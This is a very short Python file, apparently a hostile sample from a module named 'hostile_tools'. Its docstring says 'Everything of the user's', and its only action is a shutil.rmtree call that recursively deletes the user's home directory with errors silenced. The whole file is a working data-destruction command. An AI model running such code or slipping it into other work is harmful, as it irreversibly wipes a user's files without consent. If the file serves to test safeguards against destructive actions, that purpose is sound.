"""Everything of the user's."""

import shutil

from hostile_tools import place

shutil.rmtree(place("home"), ignore_errors=True)
